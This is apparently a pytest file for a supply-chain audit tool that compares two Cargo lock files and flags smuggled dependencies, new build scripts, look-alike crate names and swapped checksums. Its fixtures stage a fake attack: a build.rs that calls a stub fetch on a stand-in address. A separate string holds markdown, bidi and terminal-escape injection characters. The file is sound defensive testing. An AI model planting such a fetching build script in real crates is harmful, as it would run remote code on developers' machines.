"""Two lock files for a pull request: what matters stands first. Golden files: tests/golden/audit-diff;
CARGO_SANDBOX_GOLDEN=write makes them anew."""

from __future__ import annotations

import gc
import json
import os
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sandbox.baseline.model import Baseline, FactEntry, UnitEntry, VersionEntry
from sandbox.baseline.store import Stores, save
from sandbox.behaviour.model import Fact
from sandbox.cargo.config import CargoConfig
from sandbox.cargo.lockfile import LockedPackage
from sandbox.cli import audit_diff
from sandbox.cli.options import Settings
from sandbox.errors import UsageError, WorkspaceError
from sandbox.preflight.changes.content import read
from sandbox.preflight.diff import make, show
from sandbox.preflight.diff.make import of, run
from sandbox.preflight.diff.model import Change, LockDiff
from sandbox.preflight.packages.card import Card
from sandbox.preflight.packages.contents import MAX_TEXT, Contents
from sandbox.preflight.packages.find import Packages
from sandbox.report.render import render_untrusted
from tests.unit.preflight.crates import CRATES_IO, put

GOLDEN = Path(__file__).resolve().parents[3] / "tests" / "golden" / "audit-diff"
LIB = "pub fn nothing() {}\n"
EVIL = 'mod fetch;\n\nfn main() {\n    fetch::get("http://192.0.2.1/x");\n}\n'
FETCH = "pub fn get(_: &str) {}\n"
PROBE = "fn main() {\n    probe();\n}\n"
GROWN = "".join(f"pub fn f{at}() {{}}\n" for at in range(40))
Locked = tuple[LockedPackage, ...]


def _enacted(home: Path) -> tuple[Locked, Locked]:
    """The attack on arrayref with made-up names, amid what an ordinary pull request changes."""
    root = LockedPackage("app", "0.1.0", None, None, ("csbench-arrayref", "csbench-macros", "csbench-web"))
    repository = 'repository = "https://git.invalid/csbench/arrayref"\n'
    kept = put(home, "csbench-same", "1.0.0", {"src/lib.rs": LIB})
    old = (
        root,
        kept,
        put(home, "csbench-arrayref", "0.3.9", {"src/lib.rs": LIB}, more=repository),
        put(home, "csbench-macros", "1.0.0", {"src/lib.rs": "// 1\n"}, lib="proc-macro = true"),
        put(home, "csbench-web", "1.0.0", {"src/lib.rs": LIB, "build.rs": "fn main() {}\n"}),
        put(home, "csbench-gone", "3.0.0", {"src/lib.rs": LIB}),
        put(home, "csbench-plain", "1.0.0", {"src/lib.rs": LIB}),
    )
    new = (
        root,
        kept,
        put(home, "csbench-arrayref", "0.3.10", {"src/lib.rs": LIB}, needs=("csbench-between",)),
        put(home, "csbench-between", "1.0.0", {"src/lib.rs": LIB}, needs=("csbench-proc1",)),
        put(home, "csbench-proc1", "1.0.100", {"src/lib.rs": LIB, "build.rs": EVIL, "fetch.rs": FETCH}),
        put(home, "csbench-macros", "1.1.0", {"src/lib.rs": "// 2\n"}, lib="proc-macro = true"),
        put(home, "csbench-web", "2.0.0", {"src/lib.rs": GROWN, "build.rs": PROBE}, needs=("csbench-sys",)),
        put(home, "csbench-sys", "0.1.0", {"src/lib.rs": LIB, "build.rs": "fn main() {}\n"}),
        put(home, "csbench-plain", "1.0.1", {"src/lib.rs": LIB}),
    )
    return old, new


def _lock(path: Path, locked: Locked) -> Path:
    lines = ["version = 4", ""]
    for one in locked:
        lines += ["[[package]]", f'name = "{one.name}"', f'version = "{one.version}"']
        lines += [f'source = "{one.source}"', f'checksum = "{one.checksum}"'] if one.source else []
        lines += [f"dependencies = {json.dumps(list(one.dependencies))}", ""]
    path.write_text("\n".join(lines))
    return path


def test_what_an_update_smuggled_in_stands_before_all_else(tmp_path: Path) -> None:
    old, new = _enacted(tmp_path)
    diff = of(old, new, Packages(tmp_path))
    assert [(one.danger, one.name) for one in diff.changes] == [
        ("smuggled", "csbench-proc1"),
        ("new-code", "csbench-sys"),
        ("changed-code", "csbench-macros"),
        ("changed-code", "csbench-web"),
        ("new", "csbench-between"),
        ("updated", "csbench-arrayref"),
        ("updated", "csbench-plain"),
        ("removed", "csbench-gone"),
    ]
    first = diff.changes[0]
    assert (first.severity, first.runs, first.by) == ("high", "a build script", ("csbench-between 1.0.0",))
    assert first.why == ("csbench-arrayref 0.3.10 needs csbench-between, and 0.3.9 did not: no line of code changed",)
    assert '+    fetch::get("http://192.0.2.1/x");' in first.script
    assert "+pub fn get(_: &str) {}" in first.script
    assert "it no longer names its repository (https://git.invalid/csbench/arrayref)" in diff.changes[5].why


def test_a_new_dependency_that_much_new_code_explains_is_not_called_smuggled(tmp_path: Path) -> None:
    assert of(*_enacted(tmp_path), Packages(tmp_path)).changes[1].why == ()


def test_without_files_nothing_is_called_harmless(tmp_path: Path) -> None:
    old, new = _enacted(tmp_path)
    diff = of(old, new, Packages(tmp_path / "none"))
    # Both may be what the update smuggled in.
    assert [one.name for one in diff.of("smuggled")] == ["csbench-between", "csbench-proc1"]
    assert {one.runs for one in diff.changes if one.danger != "removed"} == {"unknown"}
    assert not diff.of("updated") and not diff.of("new")
    assert "csbench-proc1 1.0.100" in diff.notes[0] and "not on this machine" in diff.notes[0]


def test_files_that_are_here_and_can_not_be_read_are_told_with_the_reason(tmp_path: Path) -> None:
    other = put(tmp_path, "csbench-a", "1.0.0", {"src/lib.rs": LIB})._replace(checksum="0" * 64)
    broken = put(tmp_path, "csbench-b", "1.0.0", {}, more="[")
    absent = broken._replace(name="csbench-c")
    notes = of((), (other, broken, absent), Packages(tmp_path)).notes
    assert notes[:2] == (
        "the files of csbench-c 1.0.0 are not on this machine",
        "csbench-a 1.0.0: its files can't be read: its checksum is not the lock file's",
    )
    assert len(notes) == 3 and notes[2].startswith("csbench-b 1.0.0: its manifest can't be read")


def test_packages_beyond_the_bound_are_not_called_absent(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(make, "MAX_READ", 1)
    new = tuple(put(tmp_path, f"csbench-{at}", "1.0.0", {"src/lib.rs": LIB}) for at in range(3))
    diff = of((), new, Packages(tmp_path))
    assert [one.danger for one in diff.changes] == ["new-code", "new-code", "new"]
    assert diff.notes == ("2 more packages were not looked into: it is done for 1 at most",)


def test_the_same_version_with_another_checksum_is_told(tmp_path: Path) -> None:
    package = put(tmp_path, "csbench-a", "1.0.0", {"src/lib.rs": LIB})
    diff = of((package,), (package._replace(checksum="0" * 64),), Packages(tmp_path))
    assert [(one.danger, one.severity) for one in diff.changes] == [("swapped", "critical")]


def test_a_package_that_gained_a_build_script_is_told(tmp_path: Path) -> None:
    old = put(tmp_path, "csbench-a", "1.0.0", {"src/lib.rs": LIB})
    new = put(tmp_path, "csbench-a", "1.0.1", {"src/lib.rs": LIB, "build.rs": "fn main() {}\n"})
    change = of((old,), (new,), Packages(tmp_path)).changes[0]
    assert (change.danger, change.runs) == ("gained-code", "a build script") and "+fn main() {}" in change.script


def test_a_new_look_alike_is_grave_even_if_it_runs_nothing(tmp_path: Path) -> None:
    new = put(tmp_path, "serde_jsom", "1.0.0", {"src/lib.rs": LIB})
    change = of((), (new,), Packages(tmp_path)).changes[0]
    assert (change.danger, change.severity) == ("new-code", "high")
    assert change.why == ("`serde_jsom` is one letter away (`m` for `n`) from `serde_json`",)


def test_of_two_registries_packages_of_one_name_and_version_each_is_told(tmp_path: Path) -> None:
    old, new = (put(tmp_path, "csbench-a", version, {"src/lib.rs": LIB}) for version in ("1.0.0", "1.0.1"))
    other = "registry+https://other.invalid/index"
    before, after = ((one, one._replace(source=other, checksum="0" * 64)) for one in (old, new))
    diff = of(before, after, Packages(tmp_path))
    assert sorted((one.danger, one.source) for one in diff.changes) == [
        ("changed-code", other), ("updated", CRATES_IO),
    ]  # fmt: skip
    # As new packages of two registries, each brings on what needs it.
    need = put(tmp_path, "csbench-n", "1.0.0", {"build.rs": "fn main() {}"})
    users = tuple(one._replace(dependencies=("csbench-n",)) for one in after)
    smuggled = of(before, (*users, need), Packages(tmp_path)).of("smuggled")
    assert len(smuggled) == 1 and len(smuggled[0].why) == 2


def test_no_more_than_one_update_s_files_are_kept_in_memory(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    counts: list[int] = []

    def counted(packages: Packages, package: LockedPackage) -> tuple[Contents, Card] | None:
        found = read(packages, package)
        gc.collect()
        counts.append(sum(isinstance(one, Contents) for one in gc.get_objects()))
        return found

    monkeypatch.setattr(make, "read", counted)
    old = tuple(put(tmp_path, f"csbench-{at}", "1.0.0", {"src/lib.rs": LIB}) for at in range(6))
    new = tuple(put(tmp_path, f"csbench-{at}", "1.0.1", {"src/lib.rs": LIB}) for at in range(6))
    assert len(of(old, new, Packages(tmp_path)).changes) == 6 and len(counts) == 12
    assert max(counts) == counts[0] + 1


FIFTY = {f"src/a{at:02}.rs": LIB for at in range(60)}


@pytest.mark.parametrize(
    ("was", "now", "shown"),
    [
        (FIFTY, FIFTY | {"src/z.rs": "pub fn evil() {}\n"}, "+pub fn evil() {}"),
        ({"build.rs": f"//{'x' * 500}"}, {"build.rs": f"//{'x' * 500}y"}, "build.rs: changed, in what is not shown"),
        ({"build.rs": "x" * MAX_TEXT}, {"build.rs": "x" * MAX_TEXT + "y"}, "build.rs: changed, in what is not shown"),
        ({"build.rs": b"// \xfe"}, {"build.rs": b"// \xff"}, "build.rs: changed, in what is not shown"),
        ({"build.rs": LIB}, {"build.rs": LIB, **FIFTY, "src/b": LIB}, ""),
    ],
    ids=["behind many files", "behind a long line", "behind what is read", "in no text", "elsewhere"],
)
def test_build_time_code_that_changed_where_it_is_not_shown_is_not_called_the_same(
    tmp_path: Path, was: dict[str, str | bytes], now: dict[str, str | bytes], shown: str
) -> None:
    lib = "proc-macro = true" if "build.rs" not in was else ""
    old, new = (put(tmp_path, "csbench-a", f"1.0.{at}", files, lib=lib) for at, files in enumerate((was, now)))
    change = of((old,), (new,), Packages(tmp_path)).changes[0]
    assert change.danger == ("changed-code" if shown else "updated")
    assert shown in change.script if shown else not change.script


def test_of_many_changed_files_the_rest_is_counted(tmp_path: Path) -> None:
    now = dict.fromkeys(FIFTY, "pub fn other() {}\n")
    old, new = (
        put(tmp_path, "csbench-a", f"1.0.{at}", files, lib="proc-macro = true") for at, files in enumerate((FIFTY, now))
    )
    assert of((old,), (new,), Packages(tmp_path)).changes[0].script[-1] == "… 10 more files changed"


def test_code_that_differs_behind_what_is_read_counts_as_one_line(tmp_path: Path) -> None:
    files = [{"src/lib.rs": "x" * MAX_TEXT + end} for end in ("", "evil")]
    old, new = (put(tmp_path, "csbench-a", f"1.0.{at}", one) for at, one in enumerate(files))
    assert of((old,), (new,), Packages(tmp_path)).changes[0].lines == 1


def test_equal_files_do_not_differ(tmp_path: Path) -> None:
    _, new = _enacted(tmp_path)
    diff = of(new, new, Packages(tmp_path))
    assert diff.changes == () and list(show.text(diff)) == ["no package differs"]


def _baseline(old: LockedPackage, new: LockedPackage | None) -> Baseline:
    def version(package: LockedPackage, *objects: str) -> VersionEntry:
        facts = tuple(FactEntry(Fact("exec", "run", one)) for one in objects)
        unit = UnitEntry("script", "build_script_build", facts=facts)
        return VersionEntry(package.version, package.checksum or "", units=(unit,))

    versions = (version(old, "rustc"), *((version(new, "rustc", "curl"),) if new else ()))
    return Baseline(old.name, versions)


def test_behaviours_are_compared_where_baselines_have_both_versions(tmp_path: Path) -> None:
    old = put(tmp_path, "csbench-a", "1.0.0", {"build.rs": "fn main() {}"})
    new = put(tmp_path, "csbench-a", "1.0.1", {"build.rs": "fn main() { }"})
    for known, expected in (
        (new, ("+ script: exec run curl",)),
        (None, ("what 1.0.1 does is not known: it was never accepted",)),
    ):
        stores = Stores(tree={"csbench-a": _baseline(old, known)})
        assert of((old,), (new,), Packages(tmp_path), stores).changes[0].behaviour == expected
    assert of((old,), (new,), Packages(tmp_path)).changes[0].behaviour == ()


@pytest.mark.parametrize("kind", ["md", "txt", "json"])
def test_the_comparison_is_its_golden_file(tmp_path: Path, kind: str) -> None:
    old, new = _enacted(tmp_path)
    stores = Stores(tree={"csbench-web": _baseline(old[4], new[6])})
    diff = of(old, new, Packages(tmp_path), stores, names=("old.lock", "new.lock"))
    made = {"md": show.markdown(diff), "txt": "\n".join([*show.text(diff), ""]), "json": show.dumps(diff) + "\n"}[kind]
    path = GOLDEN / f"arrayref.{kind}"
    if os.environ.get("CARGO_SANDBOX_GOLDEN") == "write":
        path.write_text(made)
    assert made == path.read_text()


def test_a_comment_is_never_longer_than_a_forge_takes_and_says_what_it_left_out() -> None:
    script = tuple(f"+ line {at} `" + "x" * 300 for at in range(500))
    changes = tuple(
        Change(
            danger, f"csbench-{danger}-{at}", "", "1.0.0", "low", script=script, why=("w" * 900,) * 9, by=("b",) * 9
        )
        for danger in ("smuggled", "new-code", "changed-code", "new", "removed")
        for at in range(100)
    )  # fmt: skip
    made = show.markdown(LockDiff("a", "b", changes, ("n" * 3000,)))
    assert len(made) <= 65_000
    assert "csbench-smuggled-0" in made and "left out here" in made and "more, which the text form" in made
    assert made.count("<details>") == made.count("</details>") == 2 and made.count("#### ") == 3
    assert made.count("```diff") * 2 == made.count("```")
    assert "> n" in made


HOSTILE = "</details>```\n# x\u202e`|@someone \x1b[2J"


def test_hostile_text_stays_within_its_place() -> None:
    change = Change(
        "smuggled", HOSTILE, "", HOSTILE, "high", runs="a build script", by=(HOSTILE,), why=(HOSTILE,),
        script=(HOSTILE, "````"), behaviour=(HOSTILE,),
    )  # fmt: skip
    diff = LockDiff("a", "b", (change,), (HOSTILE,))
    import cmarkgfm

    page = cmarkgfm.github_flavored_markdown_to_html(show.markdown(diff))
    assert page.count("<h1") == page.count("<details") == 0 and page.count("<pre") == 2
    for text in ("\n".join(show.text(diff)), show.markdown(diff)):
        assert "\u202e" not in text and "\x1b" not in text
    assert show.dumps(diff).isascii()


def _main(*words: str) -> int:
    return audit_diff.run(list(words), Settings())


def test_the_command_compares_files_and_tells_by_its_exit_code(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    home = tmp_path / "home"
    old, new = _enacted(home)
    a, b = str(_lock(tmp_path / "old.lock", old)), str(_lock(tmp_path / "new.lock", new))
    monkeypatch.setenv("CARGO_HOME", str(home))
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    monkeypatch.chdir(tmp_path)
    assert _main(a, b) == 120
    title, first = capsys.readouterr().out.splitlines()[2:4]
    assert title.startswith("New build-time code, brought by an update")
    assert first == "  csbench-proc1 1.0.100: a build script"
    assert audit_diff.run([a, b], Settings(deny="never")) == 0
    assert _main("--markdown", a, b) == 120 and capsys.readouterr().out.splitlines()[-1]
    assert _main("--json", b, b) == 0
    assert json.loads(capsys.readouterr().out)["changes"] == []
    save(tmp_path / "cargo-sandbox.baseline", _baseline(old[4], new[6]))
    _main("--json", a, b)
    changes = {one["name"]: one for one in json.loads(capsys.readouterr().out)["changes"]}
    assert changes["csbench-web"]["behaviour_diff"] == ["+ script: exec run curl"]
    # A tree that is not to be trusted has no say.
    audit_diff.run(["--json", a, b], Settings(untrusted=True))
    changes = {one["name"]: one for one in json.loads(capsys.readouterr().out)["changes"]}
    assert changes["csbench-web"]["behaviour_diff"] == []


def test_the_command_given_through_a_link_reads_the_same_configuration(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    asked: list[Path] = []
    load = audit_diff.cargo_config.load

    def seen(here: Path, home: Path) -> CargoConfig:
        asked.extend((here, home))
        return load(here, home)

    monkeypatch.setattr(audit_diff.cargo_config, "load", seen)
    (tmp_path / "home").mkdir()
    (tmp_path / "link").symlink_to("home")
    (tmp_path / "home/.cargo").mkdir()
    lock = str(_lock(tmp_path / "a.lock", ()))
    monkeypatch.setenv("CARGO_HOME", str(tmp_path / "link"))
    monkeypatch.chdir(tmp_path)
    assert _main(lock, lock) == 0
    assert asked == [Path(os.path.realpath(tmp_path)), Path(os.path.realpath(tmp_path / "home"))]


@pytest.mark.parametrize("words", [[], ["a"], ["a", "b", "c"], ["a", "b", "--json", "--markdown"], ["a", "b", "--x"]])
def test_a_wrong_command_line_is_told(words: list[str]) -> None:
    with pytest.raises(UsageError):
        _main(*words)


def test_a_missing_or_broken_lock_file_is_an_error_and_not_an_empty_one(tmp_path: Path) -> None:
    good = _lock(tmp_path / "good.lock", ())
    broken = tmp_path / "broken.lock"
    broken.write_text("[[package")
    for other in (tmp_path / "none.lock", broken, tmp_path):
        for pair in ((good, other), (other, good)):
            with pytest.raises(WorkspaceError):
                run(*pair, Packages(tmp_path))


_ANY = st.builds(
    LockedPackage, st.text(max_size=5) | st.sampled_from(["serde", "..", "a/b"]),
    st.sampled_from(["1.0.0", "1.0.1", "", "../x"]),
    st.sampled_from([None, CRATES_IO, "git+x", "registry+https://[bad", "sparse+https://a.invalid/"]),
    st.sampled_from([None, "a"]), st.lists(st.text(max_size=5), max_size=3).map(tuple),
)  # fmt: skip


@given(st.lists(_ANY, max_size=5), st.lists(_ANY, max_size=5))
def test_any_two_lock_files_can_be_compared_and_shown(old: list[LockedPackage], new: list[LockedPackage]) -> None:
    diff = of(tuple(old), tuple(new), Packages(Path("/nonexistent")))
    assert all(render_untrusted(line, 10_000) == line for line in show.text(diff))
    show.markdown(diff)
    json.loads(show.dumps(diff))
